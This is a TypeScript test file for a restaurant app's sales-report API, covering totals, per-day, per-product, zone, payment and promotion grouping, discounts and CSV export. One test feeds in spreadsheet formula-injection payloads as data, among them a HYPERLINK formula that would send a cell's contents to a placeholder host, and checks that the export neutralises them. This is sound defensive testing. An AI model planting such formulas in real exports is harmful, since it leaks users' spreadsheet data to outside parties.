import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { type SalesReport, confirmedTotals } from '../../shared/reports'
import type { CoverageZone, Order, Product } from '../../shared/schemas'
import type { Promotion } from '../../shared/schemas/promotion'
import { createTestApp } from '../testing.server'

// Guatemala is UTC-6: the restaurant's day differs from the UTC day between 18:00 and 24:00.
let clock = 0
const at = (gt: string) => {
  clock = Date.parse(`${gt}:00-06:00`)
}
type T = Awaited<ReturnType<typeof createTestApp>>
let t: T
let cookie: string
let horchata: Product
let plate: Product
let zone: CoverageZone
let peers = 0

const checkout = async (json: unknown) => {
  const res = await t.request('/api/checkout', { method: 'POST', peer: `10.3.0.${++peers}`, json })
  expect(res.status).toBe(201)
  return (await res.json()) as Order
}
const report = async (query: string) => {
  const res = await t.request(`/api/reports/sales?${query}`, { headers: { cookie } })
  expect(res.status).toBe(200)
  return (await res.json()) as SalesReport
}

beforeAll(async () => {
  at('2026-11-20T08:00') // before signing in: the session's week starts on this clock
  t = await createTestApp({ now: () => clock })
  cookie = await t.signIn()
  expect((await t.request('/api/admin/initialize-database', { method: 'POST', headers: { cookie } })).status).toBe(201)
  const products = (await (await t.request('/api/products')).json()) as Product[]
  horchata = products.find((p) => p.name === 'Horchata')!
  plate = products.find((p) => p.category === 'chilaquiles')!
  zone = (await (await t.request('/api/coverage-zones', { method: 'POST', headers: { cookie }, json: { name: 'Zona 10', deliveryCost: 15 } })).json()) as CoverageZone

  // Friday 20, 23:30 in Guatemala (Saturday 05:30 UTC): a pickup paid in cash.
  at('2026-11-20T23:30')
  await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 2 }], fulfilment: 'pickup', payment: 'efectivo' })
  // Saturday 21, 00:30: a delivery paid by card, confirmed by the kitchen.
  at('2026-11-21T00:30')
  const delivery = await checkout({ items: [{ productId: plate.id, size: 'mediano', quantity: 1 }], fulfilment: 'delivery', zoneId: zone.id, address: 'Calle 1', payment: 'tarjeta' })
  expect((await t.request(`/api/orders/${delivery.id}/status`, { method: 'PATCH', headers: { cookie }, json: { status: 'confirmed' } })).status).toBe(200)
  // Saturday 12:00: a point-of-sale order, served at the table.
  at('2026-11-21T12:00')
  expect((await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'Mesa 2', items: [{ name: 'Café de olla', quantity: 2, price: 25 }], total: 50, status: 'delivered' } })).status).toBe(201)
  // Saturday 13:00: an order that is cancelled.
  at('2026-11-21T13:00')
  const cancelled = await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 1 }], fulfilment: 'pickup', payment: 'efectivo' })
  expect((await t.request(`/api/orders/${cancelled.id}/status`, { method: 'PATCH', headers: { cookie }, json: { status: 'cancelled' } })).status).toBe(200)
  // Sunday 22: outside the range asked below.
  at('2026-11-22T09:00')
  await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 5 }], fulfilment: 'pickup' })
})
afterAll(() => t.cleanup())

describe('GET /api/reports/sales', () => {
  test('totals: orders not cancelled, revenue with delivery fees, fees apart, average ticket, cancelled apart, the pending part apart', async () => {
    const { totals } = await report('from=2026-11-20&to=2026-11-21')
    const revenue = 2 * horchata.price + plate.price + 15 + 50
    expect(totals).toEqual({ orders: 3, revenue, deliveryFees: 15, discounts: 0, averageTicket: Math.round(revenue / 3), cancelled: 1, pending: { orders: 1, revenue: 2 * horchata.price, deliveryFees: 0, discounts: 0 } })
  })

  test("a delivery still waiting: its fee is in the pending part, so 'Envíos' can be read on the confirmed basis as 'Ventas' is", async () => {
    at('2026-11-23T10:00')
    const waiting = await checkout({ items: [{ productId: plate.id, size: 'mediano', quantity: 1 }], fulfilment: 'delivery', zoneId: zone.id, address: 'Calle 2', payment: 'tarjeta' })
    const { totals } = await report('from=2026-11-23&to=2026-11-23')
    expect(totals.deliveryFees).toBe(15)
    expect(totals.pending).toEqual({ orders: 1, revenue: waiting.total, deliveryFees: 15, discounts: 0 })
    expect(confirmedTotals(totals)).toEqual({ orders: 0, revenue: 0, deliveryFees: 0, discounts: 0, averageTicket: 0 })
  })

  test('per day, in restaurant days: 23:30 counts on the 20th, 00:30 on the 21st; days without sales are zero', async () => {
    const { rows } = await report('from=2026-11-19&to=2026-11-21&groupBy=day')
    const none = { orders: 0, quantity: 0, revenue: 0, discounts: 0 }
    expect(rows).toEqual([
      { key: '2026-11-19', label: '2026-11-19', orders: 0, quantity: 0, revenue: 0, discounts: 0, pending: none },
      { key: '2026-11-20', label: '2026-11-20', orders: 1, quantity: 2, revenue: 2 * horchata.price, discounts: 0, pending: { orders: 1, quantity: 2, revenue: 2 * horchata.price, discounts: 0 } },
      { key: '2026-11-21', label: '2026-11-21', orders: 2, quantity: 3, revenue: plate.price + 15 + 50, discounts: 0, pending: none },
    ])
  })

  test('per product (lines of orders not cancelled), per zone, per payment', async () => {
    const byProduct = await report('from=2026-11-20&to=2026-11-21&groupBy=product')
    expect(byProduct.rows).toEqual(
      [
        { key: String(horchata.id), label: 'Horchata', orders: 1, quantity: 2, revenue: 2 * horchata.price, discounts: null, pending: { orders: 1, quantity: 2, revenue: 2 * horchata.price, discounts: null } },
        { key: String(plate.id), label: plate.name, orders: 1, quantity: 1, revenue: plate.price, discounts: null, pending: { orders: 0, quantity: 0, revenue: 0, discounts: null } },
        { key: 'pos:Café de olla', label: 'Café de olla (punto de venta)', orders: 1, quantity: 2, revenue: 50, discounts: null, pending: { orders: 0, quantity: 0, revenue: 0, discounts: null } },
      ].sort((a, b) => b.revenue - a.revenue || a.label.localeCompare(b.label)),
    )
    const byZone = await report('from=2026-11-20&to=2026-11-21&groupBy=zone')
    expect(byZone.rows.map((r) => [r.label, r.orders, r.revenue]).sort()).toEqual(
      [
        ['Recoger en el local', 1, 2 * horchata.price],
        ['Zona 10', 1, plate.price + 15],
        ['Punto de venta', 1, 50],
      ].sort(),
    )
    const byPayment = await report('from=2026-11-20&to=2026-11-21&groupBy=payment')
    expect(byPayment.rows.map((r) => [r.key, r.label, r.revenue]).sort()).toEqual(
      [
        ['efectivo', 'Efectivo', 2 * horchata.price],
        ['tarjeta', 'Tarjeta', plate.price + 15],
        ['sin-dato', 'Sin dato (punto de venta)', 50],
      ].sort(),
    )
  })

  test('format=csv: the same rows with a header, what waits to be confirmed in columns of its own, parsed back', async () => {
    const res = await t.request('/api/reports/sales?from=2026-11-20&to=2026-11-21&groupBy=payment&format=csv', { headers: { cookie } })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="ventas-payment-2026-11-20-2026-11-21.csv"')
    const bytes = new Uint8Array(await res.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM: spreadsheets read the accents as UTF-8
    const text = new TextDecoder().decode(bytes)
    const [header, ...lines] = text.trimEnd().split('\r\n')
    expect(header).toBe('"clave","nombre","pedidos","cantidad","ventas","descuentos","pedidos por confirmar","cantidad por confirmar","ventas por confirmar","descuentos por confirmar"')
    // 'ventas' is what the screen calls sales: the pending cash order is only in its own columns.
    expect(lines.sort()).toEqual(
      [
        `"efectivo","Efectivo",0,0,0,0,1,2,${2 * horchata.price},0`,
        `"sin-dato","Sin dato (punto de venta)",1,2,50,0,0,0,0,0`,
        `"tarjeta","Tarjeta",1,1,${plate.price + 15},0,0,0,0,0`,
      ].sort(),
    )
  })

  test('a name that looks like a formula stays text in the CSV', async () => {
    at('2026-11-23T10:00')
    const evil = '=HYPERLINK("http://x.example/?"&A1,"clic")'
    expect((await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'x', items: [{ name: evil, quantity: 1, price: 1 }], total: 1 } })).status).toBe(201)
    for (const name of ['+cmd', '-2+3', '@SUM(A1)']) {
      await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'x', items: [{ name, quantity: 1, price: 1 }], total: 1 } })
    }
    const text = await (await t.request('/api/reports/sales?from=2026-11-23&to=2026-11-23&groupBy=product&format=csv', { headers: { cookie } })).text()
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"") (punto de venta)"`)
    expect(text).toContain(`,"'+cmd (punto de venta)",`)
    expect(text).toContain(`,"'-2+3 (punto de venta)",`)
    expect(text).toContain(`,"'@SUM(A1) (punto de venta)",`)
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m)
  })

  test('bad dates, ranges and groupBy: 400 in Spanish; signed out: 401', async () => {
    for (const [query, path, message] of [
      ['from=2026-02-30&to=2026-03-01', 'from', 'Fecha inválida: usa AAAA-MM-DD'],
      ['from=2026-11-21&to=2026-11-20', 'to', 'La fecha final debe ser igual o posterior a la inicial'],
      ['from=2000-01-01&to=2026-11-20', 'to', 'El rango máximo es de 3660 días'],
      ['from=2026-11-20&to=2026-11-21&groupBy=week', 'groupBy', 'Agrupa por day, product, zone, payment o promotion'],
      ['to=2026-11-21', 'from', 'Fecha inválida'],
    ] as const) {
      const res = await t.request(`/api/reports/sales?${query}`, { headers: { cookie } })
      expect({ query, status: res.status }).toEqual({ query, status: 400 })
      const body = (await res.json()) as { issues: { path: string; message: string }[] }
      expect(body.issues[0]).toEqual({ path, message })
    }
    expect((await t.request('/api/reports/sales?from=2026-11-20&to=2026-11-21')).status).toBe(401)
  })
})

describe('discounts (issue #33)', () => {
  type Given = { promotion: Promotion; amount: number }
  /** A point-of-sale order of `total` on the current clock, with the discount rows the checkout writes; optionally moved to `status`. */
  const order = async (total: number, given: Given[], status?: 'delivered' | 'cancelled') => {
    const res = await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'Mesa', items: [{ name: 'Combo', quantity: 1, price: total }], ...(status === 'delivered' ? { status } : {}) } })
    expect(res.status).toBe(201)
    const placed = (await res.json()) as Order
    if (given.length) {
      await t.ctx.db
        .insertInto('order_discounts')
        .values(given.map((g, position) => ({ order_id: placed.id, position, promotion_id: g.promotion.id, name: g.promotion.name, code: g.promotion.code, amount: g.amount })))
        .execute()
    }
    if (status === 'cancelled') expect((await t.request(`/api/orders/${placed.id}/status`, { method: 'PATCH', headers: { cookie }, json: { status } })).status).toBe(200)
  }
  const promotion = async (json: unknown) => {
    const res = await t.request('/api/promotions', { method: 'POST', headers: { cookie }, json })
    expect(res.status).toBe(201)
    return (await res.json()) as Promotion
  }
  let martes: Promotion
  let auto: Promotion
  let viejo: Promotion

  beforeAll(async () => {
    martes = await promotion({ name: 'Martes de bebidas', code: 'martes', kind: 'buyXgetY', buy: 2, free: 1, appliesTo: { categories: ['bebidas'] } })
    auto = await promotion({ name: '10% todo', kind: 'percent', value: 10 })
    viejo = await promotion({ name: 'Viejo', code: 'VIEJO', kind: 'amount', value: 5 })
    at('2026-11-25T10:00')
    await order(50, [{ promotion: martes, amount: 15 }, { promotion: auto, amount: 3 }], 'delivered')
    await order(30, [{ promotion: martes, amount: 15 }]) // pending
    await order(40, [{ promotion: martes, amount: 15 }], 'cancelled') // gives nothing
    at('2026-11-26T12:00')
    await order(20, [{ promotion: viejo, amount: 5 }], 'delivered')
    await order(10, [], 'delivered')
    at('2026-11-27T07:00') // outside the range asked (and before the session's week ends)
    await order(30, [{ promotion: martes, amount: 15 }], 'delivered')
    // Deleted since: its orders keep their rows, and the report its name and code as given.
    expect((await t.request(`/api/promotions/${viejo.id}`, { method: 'DELETE', headers: { cookie } })).status).toBe(200)
  })

  test('totals: what promotions took off the orders not cancelled, the pending part apart; revenue stays the orders’ totals', async () => {
    const { totals } = await report('from=2026-11-25&to=2026-11-26')
    expect(totals).toEqual({ orders: 4, revenue: 50 + 30 + 20 + 10, deliveryFees: 0, discounts: 15 + 3 + 15 + 5, averageTicket: 28, cancelled: 1, pending: { orders: 1, revenue: 30, deliveryFees: 0, discounts: 15 } })
  })

  test('groupBy=promotion: each promotion’s orders, uses, those orders’ totals and its discount, labelled by name and code (a deleted one as given)', async () => {
    const { groupBy, rows } = await report('from=2026-11-25&to=2026-11-26&groupBy=promotion')
    expect(groupBy).toBe('promotion')
    const nothing = { orders: 0, quantity: 0, revenue: 0, discounts: 0 }
    expect(rows).toEqual([
      { key: String(martes.id), label: 'Martes de bebidas (MARTES)', orders: 2, quantity: 2, revenue: 80, discounts: 30, pending: { orders: 1, quantity: 1, revenue: 30, discounts: 15 } },
      { key: String(viejo.id), label: 'Viejo (VIEJO)', orders: 1, quantity: 1, revenue: 20, discounts: 5, pending: nothing },
      { key: String(auto.id), label: '10% todo', orders: 1, quantity: 1, revenue: 50, discounts: 3, pending: nothing },
    ])
    // Renamed: the row says its name as it is now.
    const put = await t.request(`/api/promotions/${martes.id}`, { method: 'PUT', headers: { cookie }, json: { name: 'Martes 2x1', code: 'MARTES', kind: 'buyXgetY', buy: 2, free: 1 } })
    expect(put.status).toBe(200)
    expect((await report('from=2026-11-25&to=2026-11-26&groupBy=promotion')).rows[0]?.label).toBe('Martes 2x1 (MARTES)')
    expect((await report('from=2026-11-20&to=2026-11-21&groupBy=promotion')).rows).toEqual([])
  })

  test('per day and per payment: each group’s discounts; per product none (a discount is the order’s)', async () => {
    const byDay = await report('from=2026-11-25&to=2026-11-26&groupBy=day')
    expect(byDay.rows.map((r) => [r.key, r.discounts, r.pending.discounts])).toEqual([
      ['2026-11-25', 33, 15],
      ['2026-11-26', 5, 0],
    ])
    const byPayment = await report('from=2026-11-25&to=2026-11-26&groupBy=payment')
    expect(byPayment.rows.map((r) => [r.key, r.discounts])).toEqual([['sin-dato', 38]])
    const byProduct = await report('from=2026-11-25&to=2026-11-26&groupBy=product')
    expect(byProduct.rows.every((r) => r.discounts === null)).toBe(true)
  })

  test('CSV per promotion: uses and discounts, confirmed and pending apart', async () => {
    const res = await t.request('/api/reports/sales?from=2026-11-25&to=2026-11-26&groupBy=promotion&format=csv', { headers: { cookie } })
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="ventas-promotion-2026-11-25-2026-11-26.csv"')
    const [header, ...lines] = (await res.text()).replace('\uFEFF', '').trimEnd().split('\r\n')
    expect(header).toBe('"clave","nombre","pedidos","usos","ventas","descuentos","pedidos por confirmar","usos por confirmar","ventas por confirmar","descuentos por confirmar"')
    expect(lines).toEqual([`"${martes.id}","Martes 2x1 (MARTES)",1,1,50,15,1,1,30,15`, `"${viejo.id}","Viejo (VIEJO)",1,1,20,5,0,0,0,0`, `"${auto.id}","10% todo",1,1,50,3,0,0,0,0`])
  })
})
